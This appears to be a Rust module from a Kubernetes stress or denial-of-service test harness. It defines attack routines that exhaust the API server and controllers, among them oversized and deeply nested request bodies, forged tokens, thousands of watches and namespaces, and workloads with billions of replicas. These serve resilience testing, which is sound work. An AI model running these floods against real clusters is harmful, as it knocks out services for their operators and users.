//! Attacks by objects and requests of a service account.

use std::time::{Duration, Instant};

use bytes::Bytes;
use serde_json::{Value, json};

use crate::connection::{Attacker, answer};
use crate::target::{DURATION, Request, Target};

const MAPS: &str = "/api/v1/namespaces/default/configmaps";
const PODS: &str = "/api/v1/namespaces/default/pods";
const NAMESPACES: &str = "/api/v1/namespaces";
const DEFINITIONS: &str = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions";
const QUEUES: &str = "/apis/kueue.x-k8s.io/v1beta2/clusterqueues";

/// Creates an object and lets the controllers work on it.
async fn create_and_wait(target: Target, collection: &str, objects: Vec<Value>) {
    let requests = objects
        .iter()
        .map(|object| Request::create(collection, object));
    target.send(requests).await;
    tokio::time::sleep(DURATION).await;
}

/// A pod template whose container runs a command.
fn template(command: &[&str]) -> Value {
    json!({"metadata": {"labels": {"a": "b"}}, "spec": {"restartPolicy": "Never", "containers": [
        {"name": "c", "image": "busybox", "command": command},
    ]}})
}

fn script(script: &str) -> Value {
    template(&["sh", "-c", script])["spec"].take()
}

/// 240 bodies of 3 MiB, of which none is an object.
pub(crate) async fn bodies(target: Target, with_token: bool) {
    let body = match with_token {
        true => format!("{{\"data\": [{}0]}}", "0,".repeat(1_500_000)),
        false => " ".repeat(3 << 20),
    };
    let body = Bytes::from(body);
    let token = with_token.then_some(target.token.as_str());
    let requests = (0..240).map(|_| Request {
        body: body.clone(),
        ..Request::create(MAPS, &json!({}))
    });
    target.send_as(token, requests).await;
}

/// Anonymous requests of paths that are not served.
pub(crate) async fn junk_paths(target: Target) {
    let requests = (0..15_000).map(|index| Request::get(format!("/junk{index}")));
    target.send_as(None, requests).await;
}

/// Requests with tokens of another issuer.
pub(crate) async fn forged_tokens(target: Target) {
    let mut parts = target.token.rsplitn(2, '.');
    let signature: String = parts.next().unwrap_or_default().chars().rev().collect();
    let forged = format!("{}.{signature}", parts.next().unwrap_or_default());
    let end = Instant::now() + DURATION;
    let requests = (0..).map(|_| Request::get(MAPS));
    let requests = requests.take_while(|_| Instant::now() < end);
    target.send_as(Some(&forged), requests).await;
}

/// YAML of nested flow collections.
pub(crate) async fn deep_yaml(target: Target) {
    let path = format!("{MAPS}/m?fieldManager=x");
    let body = Bytes::from("{a: ".repeat(100_000));
    let patch = |_| Request::patch(&path, "application/apply-patch+yaml", body.clone());
    target.send_parallel(1, (0..20).map(patch)).await;
}

/// Pods that run a script.
pub(crate) async fn scripts(target: Target, count: usize, text: &str) {
    let pod = |index| json!({"metadata": {"name": format!("p{index}")}, "spec": script(text)});
    create_and_wait(target, PODS, (0..count).map(pod).collect()).await;
}

/// ConfigMaps of 1 MB.
fn large_maps() -> impl Iterator<Item = Request> {
    let text = "x".repeat(1_000_000);
    (0..450).map(move |index| {
        let map = json!({"metadata": {"name": format!("m{index}")}, "data": {"k": text}});
        Request::create(MAPS, &map)
    })
}

/// 450 ConfigMaps of 1 MB.
pub(crate) async fn large_objects(target: Target) {
    target.send_parallel(4, large_maps()).await;
}

/// Four lists of them that are not read.
pub(crate) async fn unread_lists(target: Target) {
    target.send_parallel(4, large_maps()).await;
    let mut held = Vec::new();
    for _ in 0..4 {
        let mut connection = Attacker::connect(target.address).await;
        let (_, response) = connection.request("GET", MAPS, Some(&target.token));
        held.push((tokio::spawn(response), connection));
    }
    tokio::time::sleep(DURATION).await;
    drop(held);
}

/// 10,000 namespaces.
pub(crate) async fn namespaces(target: Target) {
    let namespace = |index| {
        let namespace = json!({"metadata": {"name": format!("n{index}")}});
        Request::create(NAMESPACES, &namespace)
    };
    target.send((0..10_000).map(namespace)).await;
}

/// 100,000 Events.
pub(crate) async fn events(target: Target) {
    let event = |index| {
        let event = json!({
            "metadata": {"name": format!("e{index}")},
            "involvedObject": {"kind": "Pod", "namespace": "default", "name": "p"},
            "reason": "R", "message": "m",
        });
        Request::create("/api/v1/namespaces/default/events", &event)
    };
    target.send((0..100_000).map(event)).await;
}

/// 1,600 watches.
pub(crate) async fn watches(target: Target) {
    let mut held = Vec::new();
    for index in 0..1600 {
        if index % 200 == 0 {
            held.push((Attacker::connect(target.address).await, Vec::new()));
        }
        let (connection, open) = held.last_mut().unwrap();
        let path = format!("{MAPS}?watch=true");
        let (body, response) = connection.request("GET", &path, Some(&target.token));
        drop(body);
        open.push(tokio::spawn(response));
    }
    tokio::time::sleep(DURATION).await;
}

/// Label selectors with 3,000 values.
pub(crate) async fn selectors(target: Target) {
    let values: Vec<String> = (0..3_000).map(|index| format!("v{index}")).collect();
    let path = format!("{MAPS}?labelSelector=a%20in%20({})", values.join(","));
    target.repeat(4, |_| Request::get(path.clone())).await;
}

/// CustomResourceDefinitions with rules.
pub(crate) async fn rules(target: Target, count: usize, rules: usize, rule: &str) {
    let rules: Vec<Value> = (0..rules).map(|_| json!({"rule": rule})).collect();
    let definition = |index| {
        let schema = json!({"type": "object", "properties": {"list": {
            "type": "array", "items": {"type": "string"},
            "x-kubernetes-validations": rules,
        }}});
        let definition = json!({
            "metadata": {"name": format!("n{index}s.example.com")},
            "spec": {"group": "example.com", "scope": "Namespaced",
                "names": {"plural": format!("n{index}s"), "kind": format!("N{index}")},
                "versions": [{"name": "v1", "served": true, "storage": true,
                    "schema": {"openAPIV3Schema": schema}}]},
        });
        Request::create(DEFINITIONS, &definition)
    };
    target.send((0..count).map(definition)).await;
}

/// JSON patches with 20,000 operations.
pub(crate) async fn json_patches(target: Target) {
    let map = json!({"metadata": {"name": "m"}, "data": {"a": "b"}});
    target.send([Request::create(MAPS, &map)].into_iter()).await;
    let operation = json!({"op": "test", "path": "/data/a", "value": "b"});
    let patch = Bytes::from(json!(vec![operation; 20_000]).to_string());
    let path = format!("{MAPS}/m");
    let patch = |_| Request::patch(&path, "application/json-patch+json", patch.clone());
    target.repeat(2, patch).await;
}

/// A ConfigMap with 20,000 owners, which is only checked, two at a time.
pub(crate) async fn owner_references(target: Target) {
    let owner = |index: usize| json!({"uid": index.to_string(), "name": "a", "kind": "b", "apiVersion": "v1"});
    let owners: Vec<Value> = (0..20_000).map(owner).collect();
    let map = json!({"metadata": {"name": "o", "ownerReferences": owners}});
    repeat_dry_run(target, MAPS, map).await;
}

/// A Pod with 25,000 environment variables, which is only checked.
pub(crate) async fn environment(target: Target) {
    let variable = |index: usize| json!({"name": format!("V{index}"), "value": "v"});
    let env: Vec<Value> = (0..25_000).map(variable).collect();
    let container = json!({"name": "c", "image": "i", "env": env});
    let pod = json!({"metadata": {"name": "p"}, "spec": {"containers": [container]}});
    repeat_dry_run(target, PODS, pod).await;
}

/// A Service with 20,000 ports, which is only checked.
pub(crate) async fn ports(target: Target) {
    let port = |index: usize| json!({"name": format!("p{index}"), "port": index + 1});
    let ports: Vec<Value> = (0..20_000).map(port).collect();
    let service = json!({"metadata": {"name": "s"}, "spec": {"ports": ports}});
    repeat_dry_run(target, "/api/v1/namespaces/default/services", service).await;
}

/// A Workload with 8,000 pod sets, which is only checked.
pub(crate) async fn pod_sets(target: Target) {
    let sets: Vec<Value> = (0..8_000)
        .map(|index| json!({"name": format!("s{index}"), "count": 1, "template": template(&["true"])}))
        .collect();
    let workload = json!({"metadata": {"name": "w"}, "spec": {"podSets": sets}});
    let collection = "/apis/kueue.x-k8s.io/v1beta2/namespaces/default/workloads";
    repeat_dry_run(target, collection, workload).await;
}

/// A ClusterQueue whose selector has 10,000 values, which is only checked.
pub(crate) async fn queue_selector(target: Target) {
    let values: Vec<String> = (0..10_000).map(|index| format!("v{index}")).collect();
    let selector = json!({"matchExpressions": [{"key": "a", "operator": "In", "values": values}]});
    let queue = json!({"metadata": {"name": "q"}, "spec": {"namespaceSelector": selector}});
    repeat_dry_run(target, QUEUES, queue).await;
}

async fn repeat_dry_run(target: Target, collection: &str, mut object: Value) {
    if let Some((group, _)) = collection
        .strip_prefix("/apis/")
        .and_then(|path| path.split_once("/namespaces").or(path.rsplit_once('/')))
    {
        object["apiVersion"] = group.into();
    }
    let path = format!("{collection}?dryRun=All");
    let body = Bytes::from(object.to_string());
    let request = |_| Request {
        body: body.clone(),
        ..Request::create(&path, &json!({}))
    };
    target.repeat(2, request).await;
}

/// A StatefulSet with a billion replicas.
pub(crate) async fn stateful_set(target: Target) {
    let set = json!({"metadata": {"name": "s"}, "spec": {
        "replicas": 1_000_000_000, "podManagementPolicy": "Parallel", "serviceName": "s",
        "selector": {"matchLabels": {"a": "b"}}, "template": template(&["sleep", "9999"]),
    }});
    let mut set = set;
    set["spec"]["template"]["spec"]["restartPolicy"] = "Always".into();
    let collection = "/apis/apps/v1/namespaces/default/statefulsets";
    create_and_wait(target, collection, vec![set]).await;
}

/// A LeaderWorkerSet with groups of two billion pods.
pub(crate) async fn leader_worker_set(target: Target) {
    let mut template = template(&["sleep", "9999"]);
    template["spec"]["restartPolicy"] = "Always".into();
    let set = json!({"metadata": {"name": "l"}, "spec": {"replicas": 1, "leaderWorkerTemplate": {
        "size": 2_000_000_000, "workerTemplate": template,
    }}});
    let collection = "/apis/leaderworkerset.x-k8s.io/v1/namespaces/default/leaderworkersets";
    create_and_wait(target, collection, vec![set]).await;
}

/// Two PyTorchJobs with two billion workers.
pub(crate) async fn training_jobs(target: Target) {
    let job = |name| {
        let worker = json!({"replicas": 2_000_000_000, "template": {"spec": {
            "containers": [{"name": "pytorch", "image": "x", "command": ["sleep", "9999"]}],
        }}});
        json!({"metadata": {"name": name}, "spec": {"pytorchReplicaSpecs": {"Worker": worker}}})
    };
    let collection = "/apis/kubeflow.org/v1/namespaces/default/pytorchjobs";
    create_and_wait(target, collection, vec![job("p1"), job("p2")]).await;
}

/// A JobSet with a million Jobs.
pub(crate) async fn job_set(target: Target) {
    let set = json!({"metadata": {"name": "j"}, "spec": {"replicatedJobs": [{
        "name": "a", "replicas": 1_000_000,
        "template": {"spec": {"template": template(&["sleep", "9999"])}},
    }]}});
    let collection = "/apis/jobset.x-k8s.io/v1alpha2/namespaces/default/jobsets";
    create_and_wait(target, collection, vec![set]).await;
}

/// A ResourceQuota with 30,000 entries.
pub(crate) async fn resource_quota(target: Target) {
    let hard: serde_json::Map<String, Value> = (0..30_000)
        .map(|index| (format!("count/x{index}.y"), "1".into()))
        .collect();
    let quota = json!({"metadata": {"name": "q"}, "spec": {"hard": hard}});
    let collection = "/api/v1/namespaces/default/resourcequotas";
    create_and_wait(target, collection, vec![quota]).await;
}

/// A Job with a parallelism of 100,000.
pub(crate) async fn parallel_job(target: Target) {
    let job = json!({"metadata": {"name": "j"}, "spec": {
        "parallelism": 100_000, "completions": 100_000, "template": template(&["sleep", "9999"]),
    }});
    let collection = "/apis/batch/v1/namespaces/default/jobs";
    create_and_wait(target, collection, vec![job]).await;
}

/// 500 CronJobs of each minute.
pub(crate) async fn cron_jobs(target: Target) {
    let job = |index| {
        json!({"metadata": {"name": format!("c{index}")}, "spec": {
            "schedule": "* * * * *",
            "jobTemplate": {"spec": {"template": template(&["true"])}},
        }})
    };
    let collection = "/apis/batch/v1/namespaces/default/cronjobs";
    create_and_wait(target, collection, (0..500).map(job).collect()).await;
}

/// A cycle of 1,500 Cohorts.
pub(crate) async fn cohort_cycle(target: Target) {
    let cohort = |index| {
        let parent = format!("c{}", (index + 1) % 1500);
        json!({"apiVersion": "kueue.x-k8s.io/v1beta2", "kind": "Cohort",
            "metadata": {"name": format!("c{index}")}, "spec": {"parentName": parent}})
    };
    let collection = "/apis/kueue.x-k8s.io/v1beta2/cohorts";
    create_and_wait(target, collection, (0..1500).map(cohort).collect()).await;
}

/// ClusterQueues of one cohort with 16 groups of 16 flavors and 16 resources, by two clients.
pub(crate) async fn large_queues(target: Target) {
    let groups: Vec<Value> = (0..16)
        .map(|group| {
            let resources: Vec<String> = (0..16)
                .map(|index| format!("example.com/g{group}-{index}"))
                .collect();
            let quota = |name| json!({"name": name, "nominalQuota": 1});
            let quotas: Vec<Value> = resources.iter().map(quota).collect();
            let flavor = |index| json!({"name": format!("f{group}-{index}"), "resources": quotas});
            let flavors: Vec<Value> = (0..16).map(flavor).collect();
            json!({"coveredResources": resources, "flavors": flavors})
        })
        .collect();
    let queue = move |index| {
        let queue = json!({"apiVersion": "kueue.x-k8s.io/v1beta2", "kind": "ClusterQueue",
            "metadata": {"name": format!("q{index}")},
            "spec": {"cohortName": "c", "namespaceSelector": {}, "resourceGroups": groups}});
        Request::create(QUEUES, &queue)
    };
    target.repeat(2, queue).await;
}

/// Lists of pods.
pub(crate) async fn lists(target: Target) {
    target.send((0..3000).map(|_| Request::get(PODS))).await;
}

/// Nothing.
pub(crate) async fn none(_: Target) {
    tokio::time::sleep(Duration::from_secs(5)).await;
}

/// `exec` without a WebSocket and other refused requests of subresources.
pub(crate) async fn refused_upgrades(target: Target) {
    let mut connection = Attacker::connect(target.address).await;
    let path = format!("{PODS}/none/exec?command=true");
    let end = Instant::now() + DURATION;
    while Instant::now() < end {
        let (body, response) = connection.request("POST", &path, Some(&target.token));
        drop(body);
        answer(response).await;
    }
}
